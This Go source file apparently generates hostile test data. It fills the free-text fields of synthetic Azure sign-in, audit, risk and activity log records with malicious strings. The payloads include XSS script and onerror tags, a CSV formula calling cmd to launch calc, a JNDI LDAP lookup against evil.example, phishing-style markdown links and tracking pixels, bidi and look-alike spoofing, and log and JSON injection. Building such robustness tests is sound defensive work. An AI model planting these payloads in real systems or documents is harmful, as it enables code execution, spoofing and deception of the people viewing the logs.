package sample

import "strings"

// HostileText is something that an attacker may write wherever a log takes free text.
type HostileText struct{ Name, Text string }

// HostileTexts are the texts, from those that fool a renderer to those that fool a person.
func HostileTexts() []HostileText {
	return []HostileText{
		{"markdown link", "[Approved by security, click to dismiss](https://evil.example/?a=1&b=2)"},
		{"markdown emphasis", "**All clear** _ignore_ ~~alert~~ `code` # heading\n- list\n1. list\n> quote"},
		{"markdown image", "![x](https://evil.example/pixel.png)"},
		{"bare link", "https://evil.example/login visit www.evil.example mailto:a@evil.example"},
		{"script", "<script>document.title='owned'</script>"},
		{"html", `<img src=x onerror="document.title='owned'"><a href="javascript:alert(1)">x</a></td></table>`},
		{"attribute break", `" onmouseover="alert(1)" x="' autofocus onfocus='alert(1)`},
		{"mention", "<at>Everyone</at> @channel <!here>"},
		{"card expression", "{{DATE(2026-01-01T00:00:00Z, SHORT)}} ${user} {{TIME(x)}} $(env)"},
		{"bidirectional", "user\u202egnp.exe\u202c \u2066safe\u2069 \u200f\u200e\u061c"},
		{"invisible", "bg\u200b-\u200dal\ufeffpha\u00ad \u180e\u2060"},
		{"look-alike letters", "\u0430dmin\u0456strator \u212a \uff1cscript\uff1e"},
		{"stacked marks", "Z" + strings.Repeat("\u0301\u0327\u0338", 60)},
		{"control characters", "a\x00b\x07c\x1b[31mred\x1b[0m\x08\x7f\u0085\u2028\u2029z"},
		{"line breaks", "first\r\nlevel=INFO msg=\"all well\"\nHTTP/1.1 200 OK\r\n\r\n"},
		{"formula", "=cmd|' /C calc'!A0"},
		{"formula with at", "@SUM(1+9)*cmd|' /C calc'!A0\t-2+3"},
		{"separators", "account-x|entry|00000000000000000001#?/\\%2f..%00"},
		{"json", `","severity":"info","rules":[],"x":{"y":"`},
		{"format verbs", "%s%n%x%d%!v(PANIC=) {0} {identifier} ${jndi:ldap://evil.example/a}"},
		{"long", strings.Repeat("A very long name that goes on ", 200)},
		{"long without a blank", strings.Repeat("W", 6_000)},
		{"many line breaks", strings.Repeat("\n", 3000) + "end"},
		{"emoji and surrogates", strings.Repeat("\U0001F6A8\U0001F469\u200d\U0001F692", 200)},
	}
}

// Hostile invents one message for each of HostileTexts: a sign-in of the account, an audit record of
// it and one by it, a risk detection, a Graph call and an Azure action, with the text in every
// field that holds free text. The last has one field of 800 KB instead.
func (g *Generator) Hostile(who Person) []Variant {
	texts := HostileTexts()
	out := make([]Variant, 0, len(texts))
	for _, h := range texts {
		v := Text(h.Text)
		records := []*Object{
			g.SignIn(SignIn{Who: who, Policies: 2, Methods: []string{"Password"}}),
			g.Audit(Audit{
				Activity: ActivityNamed("Update user"), Targets: []Target{UserTarget(who, Change{"DisplayName", quoted("before"), quoted("after")})},
			}),
			g.Audit(Audit{Activity: ActivityNamed("Update policy"), By: who}),
			g.RiskEvent(Risk{Who: who}),
			g.GraphActivity(GraphCall{Who: who}),
			g.Azure(AzureAction{Who: who}),
		}
		for _, r := range records {
			for _, path := range hostileFields {
				if _, text := r.Get(path).(Text); text {
					r.Set(path, v)
				}
			}
		}
		out = append(out, Variant{Name: h.Name, Message: Message(records...), Events: len(records)})
	}
	absurd := g.SignIn(SignIn{Who: who, Policies: 2}).Set("properties.userAgent", Text(strings.Repeat("Mozilla/5.0 (", 65_000)))
	return append(out, Variant{Name: "one field absurdly long", Message: Message(absurd), Events: 1})
}

// hostileFields are the places of free text, over all kinds of record. Object ids, record ids and
// times are not among them: with those the account would not be recognised.
var hostileFields = []string{
	"identity", "resultDescription", "callerIpAddress", "location", "resultSignature", "correlationId",
	"properties.userDisplayName", "properties.userPrincipalName", "properties.appDisplayName",
	"properties.resourceDisplayName", "properties.ipAddress", "properties.userAgent", "properties.clientAppUsed",
	"properties.deviceDetail.displayName", "properties.deviceDetail.operatingSystem", "properties.deviceDetail.browser",
	"properties.deviceDetail.trustType", "properties.location.city", "properties.location.state",
	"properties.location.countryOrRegion", "properties.status.additionalDetails", "properties.status.failureReason",
	"properties.sessionId", "properties.correlationId", "properties.authenticationDetails.0.authenticationMethod",
	"properties.appliedConditionalAccessPolicies.0.displayName",
	"properties.resultReason", "properties.loggedByService", "properties.initiatedBy.user.userPrincipalName",
	"properties.initiatedBy.user.ipAddress", "properties.targetResources.0.displayName",
	"properties.targetResources.0.userPrincipalName", "properties.targetResources.0.modifiedProperties.0.displayName",
	"properties.targetResources.0.modifiedProperties.0.oldValue", "properties.targetResources.0.modifiedProperties.0.newValue",
	"properties.additionalDetails.0.key", "properties.additionalDetails.0.value",
	"properties.riskEventType", "properties.riskDetail", "properties.source", "properties.additionalInfo",
	"properties.requestUri", "properties.requestMethod", "properties.scopes", "properties.C_Sid",
	"operationName", "properties.message", "properties.entity", "properties.activityDisplayName",
	"properties.operationName",
}
